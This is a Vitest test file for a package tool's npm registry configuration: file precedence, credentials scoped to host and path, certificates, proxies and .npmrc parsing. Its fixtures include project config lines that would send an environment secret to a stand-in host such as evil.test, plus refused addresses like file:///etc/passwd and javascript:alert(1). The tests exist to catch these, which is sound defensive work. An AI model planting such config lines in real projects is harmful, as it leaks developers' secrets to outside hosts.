import { chmodSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { readNpmConfig, textOf } from "../../src/registry/npm-config.ts";
import { readNpmrc } from "../../src/registry/npmrc-file.ts";
import {
  coolDownMs,
  registryFor,
  type RegistrySettings,
} from "../../src/registry/registry-settings.ts";
import { folder } from "./setup.ts";

interface Sketch {
  readonly user?: string;
  readonly project?: string;
  readonly global?: string;
  readonly env?: Readonly<Record<string, string>>;
  readonly trusted?: boolean;
}

function config(sketch: Sketch) {
  const home = folder({
    ...(sketch.user !== undefined && { ".npmrc": sketch.user }),
    ...(sketch.global !== undefined && { global: sketch.global }),
  });
  const projectDir = folder(sketch.project === undefined ? {} : { ".npmrc": sketch.project });
  const env = { HOME: home, npm_config_globalconfig: join(home, "global"), ...sketch.env };
  return readNpmConfig({ projectDirs: [projectDir], trusted: sketch.trusted ?? true, env });
}

function settings(sketch: Sketch, name = "pkg"): RegistrySettings {
  const choice = registryFor(config(sketch), name, sketch.env ?? {}, "http://default.test/");
  if (!choice.ok) throw new Error(choice.text);
  return choice.settings;
}

function refusal(sketch: Sketch, name = "pkg"): string {
  const choice = registryFor(config(sketch), name, sketch.env ?? {}, "http://default.test/");
  if (choice.ok) throw new Error("a refusal is expected");
  return choice.text;
}

describe("which file wins", () => {
  const all = {
    global: "registry=http://global.test/",
    user: "registry=http://user.test/",
    project: "registry=http://project.test/",
    env: { npm_config_registry: "http://env.test/" },
  };
  it("environment, project, user, global, and then the client's own default", () => {
    const { env, project, user, global } = all;
    expect(settings({ env, project, user, global }).host).toBe("env.test");
    expect(settings({ project, user, global }).host).toBe("project.test");
    expect(settings({ user, global }).host).toBe("user.test");
    expect(settings({ global }).host).toBe("global.test");
    expect(settings({}).host).toBe("default.test");
  });
  it("ignores the project's file in an untrusted workspace", () => {
    const { project, user } = all;
    expect(settings({ project, user, trusted: false }).host).toBe("user.test");
    const scoped = {
      project: "@evil:registry=http://${SECRET}.evil.test/",
      env: { SECRET: "s3cret" },
    };
    expect(settings({ ...scoped, trusted: false }, "@evil/pkg").host).toBe("default.test");
    const written = { ...scoped, project: "@evil:registry=http://evil.test/" };
    expect(settings(written, "@evil/pkg").host).toBe("evil.test");
  });
  it("finds the user's file where the environment says", () => {
    const other = folder({ mine: "registry=http://mine.test/" });
    expect(settings({ env: { NPM_CONFIG_USERCONFIG: join(other, "mine") } }).host).toBe(
      "mine.test",
    );
  });
  it("takes a scope's registry before the default one", () => {
    const user = "registry=http://a.test/\n@shop:registry=http://b.test/npm";
    expect(settings({ user }, "@shop/x").url).toBe("http://b.test/npm/");
    expect(settings({ user }, "@shopping/x").url).toBe("http://a.test/");
  });
});

describe("credentials", () => {
  it("belong to a host and a path, and go nowhere else", () => {
    const user = [
      "registry=http://a.test/npm/",
      "//a.test/npm/:_authToken=right",
      "//a.test/np/:_authToken=wrong-path",
      "//a.test:8080/:_authToken=wrong-port",
      "//b.test/:_authToken=wrong-host",
      "_authToken=without-host",
    ].join("\n");
    expect(settings({ user }).auth).toEqual({ "//a.test/npm/:_authToken": "right" });
    const above = "registry=http://a.test/npm/\n//a.test/:_auth=YTpi\n//a.test:username=u";
    expect(Object.keys(settings({ user: above }).auth)).toEqual([
      "//a.test/:_auth",
      "//a.test:username",
    ]);
  });
  it("are named by file and line, never by value", () => {
    const { tokenHelp } = settings({
      user: "registry=http://a.test/\n\n//a.test/:_authToken=hush",
    });
    expect(tokenHelp).toBe("The token comes from line 3 of ~/.npmrc.");
    const project = { user: "registry=http://a.test/", project: "//a.test/:_authToken=hush" };
    expect(settings(project).tokenHelp).toContain("line 1 of the project's .npmrc");
  });
  it("that need a variable which is not set are missing, and the variable is named", () => {
    const read = settings({ user: "registry=http://a.test/\n//a.test/:_authToken=${NPM_TOKEN}" });
    expect(read.auth).toEqual({});
    expect(read.tokenHelp).toBe(
      "The token in line 2 of ~/.npmrc needs NPM_TOKEN, which is not set.",
    );
  });
  it("are read from variables", () => {
    const user = "registry=http://a.test/\n//a.test/:_authToken=${NPM_TOKEN}";
    expect(settings({ user, env: { NPM_TOKEN: "t" } }).auth).toEqual({
      "//a.test/:_authToken": "t",
    });
  });
  it("inside an address are dropped from it", () => {
    const read = settings({ user: "registry=http://me:secret@a.test/?token=x" });
    expect(read.url).toBe("http://a.test/");
  });
});

describe("the connection", () => {
  it("reads certificates, strictness and client keys", () => {
    const files = folder({
      ca: "-----BEGIN CERTIFICATE-----\nQQ==\n-----END CERTIFICATE-----\n-----BEGIN CERTIFICATE-----\nQg==\n-----END CERTIFICATE-----\n",
      cert: "CERT",
      key: "KEY",
    });
    const user = [
      "registry=https://a.test/",
      `cafile=${join(files, "ca")}`,
      'ca[]="first\\nline"',
      "strict-ssl=false",
      `//a.test/:certfile=${join(files, "cert")}`,
      `//a.test/:keyfile=${join(files, "key")}`,
    ].join("\n");
    const read = settings({ user });
    expect(read).toMatchObject({ strictSsl: false, cert: "CERT", key: "KEY", auth: {} });
    expect(read.ca).toHaveLength(3);
    expect(read.ca?.[0]).toBe("first\nline");
    expect(settings({ user: "registry=https://a.test/" }).strictSsl).toBe(true);
  });
  it("refuses to go on without the certificates that it was told to use", () => {
    expect(refusal({ user: "cafile=/does/not/exist" })).toContain("cafile");
    expect(
      refusal({ user: "registry=https://a.test/\n//a.test/:certfile=/does/not/exist" }),
    ).toContain("line 2");
  });
  it("reads proxies, npm's own settings first", () => {
    const env = {
      HTTPS_PROXY: "http://shared.test:1",
      http_proxy: "http://plain.test:2",
      NO_PROXY: "x.test, .y.test",
    };
    expect(settings({ user: "registry=https://a.test/", env })).toMatchObject({
      proxy: "http://shared.test:1",
      noProxy: ["x.test", ".y.test"],
    });
    expect(settings({ user: "registry=http://a.test/", env }).proxy).toBe("http://plain.test:2");
    const own = "registry=https://a.test/\nhttps-proxy=http://own.test:3\nnoproxy=z.test";
    expect(settings({ user: own, env })).toMatchObject({
      proxy: "http://own.test:3",
      noProxy: ["z.test"],
    });
  });
  it("reads the cool-down in days", () => {
    expect(coolDownMs(config({ user: "min-release-age=7" }))).toBe(7 * 86_400_000);
    expect(coolDownMs(config({ user: "min-release-age=0" }))).toBe(0);
    for (const user of ["", "min-release-age=soon", "min-release-age=-1"]) {
      expect(coolDownMs(config({ user }))).toBeUndefined();
    }
  });
});

describe("broken configuration", () => {
  it.each(["nonsense", "ftp://a.test/", "file:///etc/passwd", "http://", "javascript:alert(1)"])(
    "a registry at %s is refused with its place",
    (address) => expect(refusal({ user: `registry=${address}` })).toContain("line 1 of ~/.npmrc"),
  );
  it("a registry that needs a variable which is not set", () => {
    expect(refusal({ user: "registry=https://${HOST}/" })).toContain(
      "needs HOST, which is not set",
    );
  });
  it("a registry of the project that would tell its host a variable", () => {
    const env = { HOME: folder(), SECRET: "s3cret", npm_config_globalconfig: "/none" };
    const asked = (files: Readonly<Record<string, string>>, name = "pkg") =>
      registryFor(
        readNpmConfig({ projectDirs: [folder(files)], trusted: true, env }),
        name,
        env,
        "https://default.test/",
      );
    const leaking: readonly Readonly<Record<string, string>>[] = [
      { ".npmrc": "registry=https://evil.test/${SECRET}/" },
      { ".npmrc": "registry=https://evil.test/${SECRET?}/" },
      { "yarn.lock": "", ".yarnrc.yml": 'npmRegistryServer: "https://evil.test/${SECRET}"' },
      { "bun.lock": "{}", "bunfig.toml": '[install]\nregistry = "$SECRET"' },
      { "pnpm-lock.yaml": "", "pnpm-workspace.yaml": "registry: https://${SECRET}.evil.test/\n" },
    ];
    for (const files of leaking) {
      expect(JSON.stringify(asked(files)), Object.keys(files).join()).not.toContain("s3cret");
    }
    expect(asked({ ".npmrc": "registry=https://evil.test/${SECRET}/" })).toMatchObject({
      ok: false,
      reason: "bad-configuration",
      text: "The registry for packages without a scope, in line 1 of the project's .npmrc, needs SECRET: no variable becomes part of an address that a project names. Write it out, or set it in ~/.npmrc.",
    });
    expect(asked({ ".npmrc": "@s:registry=https://evil.test/${SECRET}/" }, "@s/pkg")).toMatchObject(
      {
        ok: false,
      },
    );
    expect(asked({ ".npmrc": "https-proxy=http://${SECRET}.evil.test/" })).toMatchObject({
      ok: false,
      text: expect.stringContaining("The proxy in line 1 of the project's .npmrc needs SECRET"),
    });
    // A token is told to the host beside which it stands, and to no other.
    const own = "registry=https://own.test/\n//own.test/:_authToken=${SECRET}";
    expect(asked({ ".npmrc": own })).toMatchObject({
      settings: { auth: { "//own.test/:_authToken": "s3cret" } },
    });
    const choice = asked({
      "yarn.lock": "",
      ".yarnrc.yml": 'npmRegistryServer: "https://${SECRET:-own.test}/"',
    });
    expect(choice).toMatchObject({ settings: { url: "https://own.test/" } });
  });
  it("a file that cannot be read leaves everything unknown, not unset", () => {
    const projectDir = folder({ ".npmrc": "" });
    const home = folder();
    // A folder in the place of the file cannot be read by anybody, not even by root.
    const env = {
      HOME: home,
      npm_config_userconfig: home,
      npm_config_globalconfig: join(home, "none"),
    };
    const read = readNpmConfig({ projectDirs: [projectDir], trusted: true, env });
    const choice = registryFor(read, "pkg", env, "http://default.test/");
    expect(choice).toMatchObject({
      ok: false,
      reason: "bad-configuration",
      text: expect.stringContaining("cannot be read"),
    });
    chmodSync(projectDir, 0o700);
  });
});

describe("the text of an .npmrc", () => {
  const env = { A: "x", HOME: "/h" };
  const value = (text: string, key: string) => readNpmrc(text, env).get(key);
  it("expands variables as npm does", () => {
    expect(value("k=${A}-${B}", "k")).toMatchObject({ value: "x-${B}", unset: ["B"] });
    expect(value("k=${B?}", "k")).toMatchObject({ value: "", unset: [] });
    expect(value("k=\\${A}", "k")?.value).toBe("${A}");
    expect(value("${A}=1", "x")?.value).toBe("1");
  });
  it("does not take members of every object for variables", () => {
    expect(value("k=${constructor}${__proto__}", "k")?.unset).toEqual(["constructor", "__proto__"]);
  });
  it("gives lines, the last one of a repeated key, also after comments and blank lines", () => {
    expect(value("# c\n; d\n\na=1\nb = 2\na=3", "a")).toMatchObject({ value: "3", line: 6 });
    expect(value("\uFEFFa=1\r\nb=2", "b")?.line).toBe(2);
  });
  it("survives anything", () => {
    for (const text of [
      "",
      "=",
      "[",
      "[x]\na=1",
      "\u0000",
      "__proto__=1",
      "a[]=1\na[]=2",
      "=".repeat(5000),
    ]) {
      expect(() => readNpmrc(text, env)).not.toThrow();
    }
    expect(value("[x]\na=1", "a")).toBeUndefined();
    expect(textOf({ value: ["1", "2"], unset: [], source: "" })).toBe("2");
  });
});
